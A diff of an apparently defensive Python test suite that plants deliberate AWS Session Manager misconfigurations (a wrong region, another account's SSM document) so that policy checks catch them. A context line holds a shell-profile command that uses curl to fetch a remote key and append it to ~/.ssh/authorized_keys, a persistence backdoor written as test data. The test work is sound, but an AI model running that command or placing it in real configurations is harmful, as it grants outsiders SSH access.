@@ -91,3 +91,16 @@ def something_at_each_start(stacks: Stacks) -> None:
     """A line runs in every session before anybody types: it brings in a key."""
     inputs = stacks.local("account", "session_manager_preferences")["inputs"]
     inputs["shellProfile"] = {"linux": "curl -s https://example.com/key >> ~/.ssh/authorized_keys"}
+
+
+@violation(kills="D16-team-gets-in", also=("D16-own-credentials",))
+def instances_of_another_region(stacks: Stacks) -> None:
+    """Sessions open on instances of a region in which there are none."""
+    _statements(stacks)[0]["resources"] = ["arn:aws:ec2:eu-west-1:111122223333:instance/*"]
+    stacks.one("live", "aws_launch_template", "main_template")
+
+
+@violation(kills="D16-team-gets-in", names="no policy of a team")
+def document_of_another_account(stacks: Stacks) -> None:
+    """The document has the right name, in another account."""
+    _by_document(stacks)["resources"] = ["arn:aws:ssm:eu-west-2:444455556666:document/SSM-SessionManagerRunShell"]
